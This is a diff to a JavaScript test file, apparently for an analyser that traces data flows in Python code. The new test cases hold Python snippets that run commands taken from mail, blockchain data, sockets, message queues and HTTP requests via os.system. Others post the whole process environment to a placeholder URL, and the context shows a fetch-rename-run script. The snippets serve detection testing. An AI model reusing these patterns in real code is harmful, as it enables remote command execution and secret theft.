@@ -64,6 +64,27 @@ test.each([
   expect(await flowsIn(`import os\n${text}\n`)).toEqual([]);
 });
 
+test.each([
+  ['a mailbox', 'import imaplib\nbox = imaplib.IMAP4_SSL("h")\n_, mail = box.fetch("1", "(RFC822)")\nos.system(mail[0][1].decode())'],
+  ['a chain', 'from web3 import Web3\nos.system(bytes(Web3(u).eth.get_transaction("0x0")["input"]).decode())'],
+  ['a stream', 'import asyncio\nasync def f():\n    r, w = await asyncio.open_connection("h", 1)\n    os.system((await r.readline()).decode())\nasyncio.run(f())'],
+  ['a queue', 'import paho.mqtt.client as mqtt\ndef got(client, data, message):\n    os.system(message.payload.decode())\nc = mqtt.Client()\nc.on_message = got'],
+  ['a connection that stays open', 'import websocket\ndef got(app, message):\n    os.system(message)\nwebsocket.WebSocketApp(u, on_message=got).run_forever()'],
+  ['a decorator of a connection', 'import socketio\nc = socketio.Client()\n@c.on("order")\ndef got(data):\n    os.system(data)'],
+  ['a request to a server of its own', 'import http.server\nclass H(http.server.BaseHTTPRequestHandler):\n    def do_GET(self):\n        os.system(self.path[1:])'],
+])('what comes out of %s is fetched', async (_, text) => {
+  expect(await flowsIn(`import os\n${text}\n`)).toMatchObject([{ from: 'network', to: 'process' }]);
+});
+
+test.each([
+  ['an entry', 'self.found["all"] = dict(os.environ)'],
+  ['an update', 'self.found.update(os.environ)'],
+  ['an addition', 'self.found.append(str(os.environ))'],
+])('what an attribute is given by %s is still in it when it is sent', async (_, statement) => {
+  const text = `import os, requests\nclass Box:\n    found = {}\n    def fill(self):\n        ${statement}\n        return self\n    def send(self):\n        requests.post(u, json=self.found)\nBox().fill().send()\n`;
+  expect(await flowsIn(text)).toMatchObject([{ from: 'environment', to: 'network', when: 'import' }]);
+});
+
 test('a file that was fetched is the same under another name', async () => {
   const text = 'import os, shutil, urllib.request\nurllib.request.urlretrieve(u, "/tmp/stage.sh")\nshutil.move("/tmp/stage.sh", "/tmp/quiet.sh")\nos.system("sh /tmp/quiet.sh")\n';
   expect(await flowsIn(text)).toMatchObject([{ from: 'network', to: 'process', through: 'file' }]);
